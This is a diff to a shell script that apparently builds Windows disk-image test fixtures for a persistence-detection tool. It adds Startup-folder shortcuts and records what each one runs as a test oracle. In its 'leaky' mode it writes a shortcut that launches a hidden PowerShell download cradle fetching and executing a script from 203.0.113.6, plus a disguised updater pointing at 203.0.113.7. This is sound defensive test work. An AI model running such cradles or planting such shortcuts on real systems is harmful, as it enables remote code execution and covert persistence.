@@ -204,21 +204,28 @@ sys.stdout.buffer.write(bytes(b))" > m/Windows/Temp/setup.exe
   mkdir -p m/ProgramData/svc
   head -c 4096 /dev/urandom > m/ProgramData/svc/xmrig.exe
 fi
-# Shortcuts in the Startup folders (mklnk.py writes them per MS-SHLLINK; lnkinfo, from
-# liblnk-utils, reads back what each runs into lnk.env, the oracle). Every image: a vendor
-# tool's shortcut (the inventory, info). The leaky image adds a shortcut that runs a PowerShell
-# download cradle for every user, and one in alice's own Startup folder whose program is in
-# her profile.
+# Shortcuts in the Startup folders (mklnk.py writes them per MS-SHLLINK, each with its target's
+# shell items; lnkinfo, from liblnk-utils, reads back what each runs into lnk.env, the oracle:
+# LNK_x_TARGET its LinkInfo's local path, LNK_x_SHELL the path its shell items spell (the volume
+# name and the file entries' long names), LNK_x_ARGS its arguments). Every image: a vendor
+# tool's shortcut (the inventory, info) and one whose target is only in its shell items (as
+# Explorer writes them; info). The leaky image adds a shortcut that runs a PowerShell download
+# cradle for every user, one in alice's own Startup folder whose program is in her profile, and
+# one with only shell items whose program is in C:\Users\Public.
 here=$(dirname "$(realpath "$0")")
-lnk() { # FILE TARGET ARGUMENTS [ENV_TARGET]
-  mkdir -p "$(dirname "$1")"; python3 "$here/mklnk.py" "$@"
-  local info; info=$(lnkinfo "$1")
-  printf 'LNK_%s_TARGET=%s\nLNK_%s_ARGS=%s\n' "$(basename "$1" .lnk)" "$(sed -n 's/^\tLocal path\t*: //p' <<<"$info")" \
-    "$(basename "$1" .lnk)" "$(sed -n 's/^\tCommand line arguments\t*: //p' <<<"$info")" >> lnk.env
+lnk() { # [--shell-items-only] FILE TARGET ARGUMENTS [ENV_TARGET]
+  local file=$1; [ "$1" = --shell-items-only ] && file=$2
+  mkdir -p "$(dirname "$file")"; python3 "$here/mklnk.py" "$@"
+  local info name; info=$(lnkinfo "$file"); name=$(basename "$file" .lnk)
+  printf 'LNK_%s_TARGET=%s\nLNK_%s_ARGS=%s\nLNK_%s_SHELL=%s\n' "$name" "$(sed -n 's/^\tLocal path\t*: //p' <<<"$info")" \
+    "$name" "$(sed -n 's/^\tCommand line arguments\t*: //p' <<<"$info")" \
+    "$name" "$(awk -F '\t+: ' '/^\t\tVolume name\t/ { p = $2 } /^\t\tLong name\t/ { p = p (p ~ /\\$/ ? "" : "\\") $2 } END { print p }' <<<"$info")" >> lnk.env
 }
 : > lnk.env
 lnk "$startup/BGInfo.lnk" 'C:\Program Files\BGInfo\Bginfo64.exe' '/timer:0 /silent /nolicprompt' '%ProgramFiles%\BGInfo\Bginfo64.exe'
+lnk --shell-items-only "$startup/EC2Launch.lnk" 'C:\Program Files\Amazon\EC2Launch\EC2Launch.exe' ''
 if [ "$mode" != clean ]; then
+  lnk --shell-items-only "$startup/Updater.lnk" 'C:\Users\Public\Ünïcode Tools\updater.exe' '-u http://203.0.113.7/u.exe --quiet'
   lnk "$startup/Sync.lnk" 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' \
     "-NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.6/s.ps1')\""
   lnk 'm/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/helper.lnk' \
